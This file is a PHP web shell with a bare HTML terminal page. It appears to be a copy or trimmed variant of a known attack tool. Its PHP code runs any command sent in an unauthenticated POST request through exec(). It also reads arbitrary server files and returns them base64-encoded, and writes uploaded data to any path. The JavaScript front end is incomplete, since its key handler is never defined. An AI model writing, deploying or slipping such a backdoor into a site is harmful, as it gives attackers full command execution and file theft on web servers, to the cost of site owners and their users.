<?php
function featureShell($cmd, $cwd) {
    $stdout = array();
    if (preg_match("/^\s*cd\s*$/", $cmd)) {
        // pass
    } elseif (preg_match("/^\s*cd\s+(.+)\s*(2>&1)?$/", $cmd)) {
        chdir($cwd);
        preg_match("/^\s*cd\s+([^\s]+)\s*(2>&1)?$/", $cmd, $match);
        chdir($match[1]);
    } elseif (preg_match("/^\s*download\s+[^\s]+\s*(2>&1)?$/", $cmd)) {
        chdir($cwd);
        preg_match("/^\s*download\s+([^\s]+)\s*(2>&1)?$/", $cmd, $match);
        return featureDownload($match[1]);
    } else {
        chdir($cwd);
        exec($cmd, $stdout);
    }
    return array("stdout" => $stdout, "cwd" => getcwd());
}
function featurePwd() { return array("cwd" => getcwd()); }
function featureDownload($filePath) {
    $file = @file_get_contents($filePath);
    if ($file === FALSE) {
        return array('stdout' => array('File not found / no read permission.'), 'cwd' => getcwd());
    }
    return array('name' => basename($filePath), 'file' => base64_encode($file));
}
function featureUpload($path, $file, $cwd) {
    chdir($cwd);
    $f = @fopen($path, 'wb');
    if ($f === FALSE) {
        return array('stdout' => array('Invalid path / no write permission.'), 'cwd' => getcwd());
    }
    fwrite($f, base64_decode($file));
    fclose($f);
    return array('stdout' => array('Done.'), 'cwd' => getcwd());
}
if (isset($_GET["feature"])) {
    $response = NULL;
    switch ($_GET["feature"]) {
        case "shell":
            $cmd = $_POST['cmd'];
            if (!preg_match('/2>/', $cmd)) { $cmd .= ' 2>&1'; }
            $response = featureShell($cmd, $_POST["cwd"]);
            break;
        case "pwd":
            $response = featurePwd();
            break;
        case "upload":
            $response = featureUpload($_POST['path'], $_POST['file'], $_POST['cwd']);
    }
    header("Content-Type: application/json");
    echo json_encode($response);
    die();
}
?><!DOCTYPE html>
<html><head><meta charset="UTF-8" /><title>term@shell:~#</title></head>
<body><div id="shell"><pre id="shell-content"></pre><input id="shell-cmd" name="cmd" onkeydown="_onShellCmdKeyDown(event)"/></div>
<script>
function makeRequest(url, params, callback) {
  var xhr = new XMLHttpRequest(); xhr.open("POST", url, true);
  xhr.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  xhr.onreadystatechange = function() { if (xhr.readyState === 4 && xhr.status === 200) { callback(JSON.parse(xhr.responseText)); } };
  xhr.send(params);
}
</script></body></html>
